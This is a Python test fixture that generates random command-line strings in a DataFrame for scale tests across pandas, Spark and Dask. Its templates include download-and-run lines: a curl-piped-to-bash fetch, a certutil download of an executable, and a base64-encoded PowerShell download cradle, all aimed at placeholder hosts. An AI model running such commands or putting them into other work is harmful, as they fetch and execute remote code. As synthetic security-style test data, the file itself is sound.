"""Small generated inputs for the scale tests: the same frame goes through pandas,
Spark and Dask."""

from __future__ import annotations

import base64
import random

import pandas as pd

_TEMPLATES = (
    "curl -s http://{host}/{path}.sh | bash",
    "ping -c 1 {ip}",
    "powershell -enc {b64}",
    "certutil -urlcache -f hxxp://{host}[.]com/{path}.exe",
    "echo {md5} > /tmp/{path}",
    "mail {path}@{host}",
    "ls -la /home/{path}",
    "nslookup {host} {ip}",
)


def command_lines(rows: int, seed: int = 7) -> pd.DataFrame:
    """``rows`` command lines (with some missing cells), an ``id`` and a ``host``."""
    rng = random.Random(seed)
    cells: list[str | None] = []
    for _ in range(rows):
        if rng.random() < 0.05:
            cells.append(None)
            continue
        word = "".join(rng.choice("abcdefgh") for _ in range(6))
        payload = f"IEX (New-Object Net.WebClient).DownloadString('http://{word}.net/a')"
        cells.append(
            rng.choice(_TEMPLATES).format(
                host=f"{word}.example.org",
                path=word,
                ip=f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.7",
                b64=base64.b64encode(payload.encode("utf-16le")).decode(),
                md5="".join(rng.choice("0123456789abcdef") for _ in range(32)),
            )
        )
    return pd.DataFrame(
        {
            "id": list(range(rows)),
            "host": [f"host{i % 3}" for i in range(rows)],
            "CommandLine": cells,
        }
    )
